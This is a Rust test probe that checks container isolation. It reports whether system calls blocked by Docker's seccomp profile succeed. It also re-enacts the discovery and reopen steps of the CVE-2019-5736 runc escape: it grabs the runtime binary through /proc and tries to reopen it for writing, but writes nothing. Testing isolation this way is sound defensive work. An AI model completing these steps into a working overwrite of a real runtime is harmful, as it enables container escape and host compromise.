//! The security probe, built static by build.rs so it runs in a busybox root without a C
//! library.
//!
//! `probe NAME...`: makes the system calls Docker's profile refuses and prints what the
//! kernel answered, one `name=ERRNO` line each (0: the call worked).
//!
//! `probe hunt STOP_FILE MILLIS`: the CVE-2019-5736 attacker. Until STOP_FILE exists (at
//! most MILLIS milliseconds) it watches the container's processes for one whose
//! `/proc/PID/exe` is neither busybox nor itself (the runtime's binary, while it runs in the
//! container) and keeps an `O_PATH` descriptor of it; then, the runtime's processes gone, it
//! tries to reopen each for writing, as the exploit did, and prints `seen=N` and one
//! `reopen=ERRNO` line each (0: it could have written the runtime's binary; it writes nothing).

use std::ffi::c_long;

extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
    fn __errno_location() -> *mut i32;
}

#[cfg(target_arch = "x86_64")]
mod nr {
    pub const KEYCTL: i64 = 250;
    pub const UNSHARE: i64 = 272;
    pub const KEXEC_LOAD: i64 = 246;
    pub const CLONE3: i64 = 435;
    pub const MKDIR: i64 = 83;
}
#[cfg(target_arch = "aarch64")]
mod nr {
    pub const KEYCTL: i64 = 219;
    pub const UNSHARE: i64 = 97;
    pub const KEXEC_LOAD: i64 = 104;
    pub const CLONE3: i64 = 435;
    pub const MKDIR: i64 = -1; // aarch64 has only mkdirat
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.first().map(String::as_str) == Some("hunt") {
        return hunt(args.get(1).map_or("/tmp/stop", String::as_str), args.get(2).and_then(|ms| ms.parse().ok()).unwrap_or(10_000));
    }
    for name in args {
        // Safety: each call passes integers (or a null pointer with size 0) only.
        let result = unsafe {
            match name.as_str() {
                "clone3" => syscall(nr::CLONE3, 0usize, 0usize),
                "keyctl" => syscall(nr::KEYCTL, 0 as c_long, -3 as c_long, 0 as c_long), // KEYCTL_GET_KEYRING_ID of the session keyring
                "userns" => syscall(nr::UNSHARE, 0x1000_0000 as c_long),                 // unshare(CLONE_NEWUSER)
                "kexec_load" => syscall(nr::KEXEC_LOAD, 0 as c_long, 0 as c_long, 0 as c_long, 0 as c_long),
                "mkdir" => syscall(nr::MKDIR, c"/tmp/probe-dir".as_ptr(), 0o755 as c_long),
                _ => {
                    println!("{name}=unknown");
                    continue;
                }
            }
        };
        // Safety: errno of this thread.
        let errno = if result < 0 { unsafe { *__errno_location() } } else { 0 };
        println!("{name}={errno}");
    }
}

fn hunt(stop_file: &str, millis: u64) {
    use std::os::unix::fs::OpenOptionsExt;
    let me = std::process::id().to_string();
    let until = std::time::Instant::now() + std::time::Duration::from_millis(millis);
    let mut caught: Vec<(String, std::fs::File)> = Vec::new();
    while std::time::Instant::now() < until && caught.len() < 64 && !std::path::Path::new(stop_file).exists() {
        let Ok(entries) = std::fs::read_dir("/proc") else { return };
        for entry in entries.flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me || caught.iter().any(|(p, _)| *p == pid) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            match std::fs::read_link(&exe) {
                Ok(target) if target.as_os_str() != "/bin/busybox" && target.as_os_str() != "/bin/probe" => {}
                _ => continue,
            }
            if let Ok(file) = std::fs::OpenOptions::new().read(true).custom_flags(0o10000000).open(&exe) {
                caught.push((pid, file)); // O_PATH: no access checked beyond the lookup
            }
        }
    }
    // The runtime's processes are gone now (the caller says so with STOP_FILE): what the
    // exploit did next.
    std::thread::sleep(std::time::Duration::from_millis(300));
    println!("seen={}", caught.len());
    for (_, file) in &caught {
        use std::os::fd::AsRawFd;
        let reopened = std::fs::OpenOptions::new().append(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
        println!("reopen={}", reopened.map_or_else(|e| e.raw_os_error().unwrap_or(-1), |_| 0));
    }
}
